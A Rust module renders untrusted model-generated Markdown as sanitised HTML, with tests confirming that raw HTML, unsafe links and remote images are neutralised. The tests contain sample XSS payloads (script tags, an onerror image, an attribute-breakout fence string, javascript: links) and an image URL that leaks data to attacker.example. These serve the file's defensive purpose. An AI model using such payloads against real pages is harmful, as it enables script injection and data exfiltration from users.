//! Markdown to HTML that is safe to insert: model output is untrusted.
//!
//! - Raw HTML in the text is shown as text, never parsed as markup.
//! - Links keep their text but only `http:`, `https:` and `mailto:` targets;
//!   others (`javascript:`, `data:`, relative tricks) lose the link.
//! - Images are never loaded (a remote image is an exfiltration channel, see
//!   EchoLeak CVE-2025-32711): they become their alt text and address.
//!
//! The page's CSP (no inline script) is a second wall behind this one.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};

fn safe_url(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:")
}

/// Renders `text` as sanitised HTML.
pub fn render(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    // Links with unsafe targets and images are rewritten; a stack remembers
    // which opening tags were dropped so their closing tags go too.
    let mut dropped: Vec<bool> = Vec::new();
    let events = Parser::new_ext(text, options).filter_map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            // An email autolink (`<a@b.c>`) is rendered as `mailto:` by push_html.
            let keep = link_type == LinkType::Email || safe_url(&dest_url);
            dropped.push(!keep);
            keep.then_some(Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }))
        }
        Event::End(TagEnd::Link) => {
            if dropped.pop().unwrap_or(false) {
                None
            } else {
                Some(Event::End(TagEnd::Link))
            }
        }
        Event::Start(Tag::Image { dest_url, .. }) => {
            Some(Event::Text(CowStr::from(format!("[image: {dest_url}] "))))
        }
        Event::End(TagEnd::Image) => None,
        other => Some(other),
    });
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, code_blocks(events).into_iter());
    out
}

/// Code blocks get a Copy button, and fenced code in a language the
/// highlighter knows is written as classed spans (colours in the
/// stylesheet). Markup of ours, added after the filter above, which turns
/// any HTML in the text itself into text.
fn code_blocks<'a>(events: impl Iterator<Item = Event<'a>>) -> Vec<Event<'a>> {
    const OPEN: &str =
        "<div class=\"code-block\"><button type=\"button\" class=\"copy\">Copy</button>";
    let mut out = Vec::new();
    // The block being gathered: its language, the fence's word, its text.
    let mut code: Option<(hl_lite::Lang, String, String)> = None;
    for event in events {
        if let Some((_, _, text)) = code.as_mut() {
            match event {
                Event::Text(t) => text.push_str(&t),
                Event::End(TagEnd::CodeBlock) => {
                    if let Some((lang, slug, text)) = code.take() {
                        out.push(Event::Html(CowStr::from(highlighted(lang, &slug, &text))));
                        out.push(Event::Html(CowStr::from("</div>")));
                    }
                }
                other => out.push(other),
            }
            continue;
        }
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                out.push(Event::Html(CowStr::from(OPEN)));
                let slug = match &kind {
                    CodeBlockKind::Fenced(info) => info
                        .split(|c: char| c.is_whitespace() || c == ',')
                        .next()
                        .unwrap_or_default()
                        .to_owned(),
                    CodeBlockKind::Indented => String::new(),
                };
                match hl_lite::Lang::from_slug(&slug) {
                    Some(lang) => code = Some((lang, slug, String::new())),
                    None => out.push(Event::Start(Tag::CodeBlock(kind))),
                }
            }
            Event::End(TagEnd::CodeBlock) => {
                out.push(Event::End(TagEnd::CodeBlock));
                out.push(Event::Html(CowStr::from("</div>")));
            }
            other => out.push(other),
        }
    }
    out
}

/// `<pre><code>` with the code's tokens as `<span class="hl-…">`.
fn highlighted(lang: hl_lite::Lang, slug: &str, code: &str) -> String {
    let mut html = String::with_capacity(code.len() * 2 + 64);
    html.push_str("<pre><code class=\"language-");
    escape_into(&mut html, slug);
    html.push_str("\">");
    for span in hl_lite::highlight(lang, code) {
        if span.kind == hl_lite::Kind::Plain {
            escape_into(&mut html, span.text);
        } else {
            html.push_str("<span class=\"hl-");
            html.push_str(span.kind.class());
            html.push_str("\">");
            escape_into(&mut html, span.text);
            html.push_str("</span>");
        }
    }
    html.push_str("</code></pre>\n");
    html
}

fn escape_into(out: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn formatting_and_code_render() {
        let html = render("**bold** and `code`\n\n```rust\nfn main() {}\n```");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(
            html.contains("<pre><code class=\"language-rust\">"),
            "{html}"
        );
    }

    #[test]
    fn known_languages_are_highlighted_and_stay_text() {
        let html = render("```rust\nlet x = \"<b>\"; // hi\n```\n\n```nosuchlang\nlet y\n```");
        assert!(
            html.contains("<pre><code class=\"language-rust\">"),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"hl-keyword\">let</span>"),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"hl-comment\">// hi</span>"),
            "{html}"
        );
        // The code's own markup is text, inside its span.
        assert!(html.contains("&quot;&lt;b&gt;&quot;"), "{html}");
        assert!(!html.contains("<b>"), "{html}");
        // An unknown language is plain code, with its Copy button as before.
        assert!(
            html.contains("<code class=\"language-nosuchlang\">let y\n</code>"),
            "{html}"
        );
        assert_eq!(html.matches("class=\"copy\"").count(), 2, "{html}");
        // The fence's word, whatever it holds, cannot leave the attribute.
        let html = render("```js\"onmouseover=alert(1)\nx\n```");
        assert!(!html.contains("\"onmouseover"), "{html}");
    }

    #[test]
    fn raw_html_is_text() {
        let html = render("<script>alert(1)</script> <img src=x onerror=alert(1)> <b>hi</b>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<b>"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }

    #[test]
    fn only_safe_links_stay_links() {
        let html = render(
            "[ok](https://example.com) [mail](mailto:a@example.com) [bad](javascript:alert(1)) [data](data:text/html,x) [rel](//evil.example)",
        );
        assert!(
            html.contains("<a href=\"https://example.com\">ok</a>"),
            "{html}"
        );
        assert!(
            html.contains("<a href=\"mailto:a@example.com\">mail</a>"),
            "{html}"
        );
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(!html.contains("href=\"//evil"), "{html}");
        assert!(
            html.contains("bad") && html.contains("data") && html.contains("rel"),
            "the text stays: {html}"
        );
    }

    #[test]
    fn images_are_never_loaded() {
        let html = render("![secret](https://attacker.example/leak?d=123)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("[image: https://attacker.example/leak?d=123]"),
            "{html}"
        );
    }
}
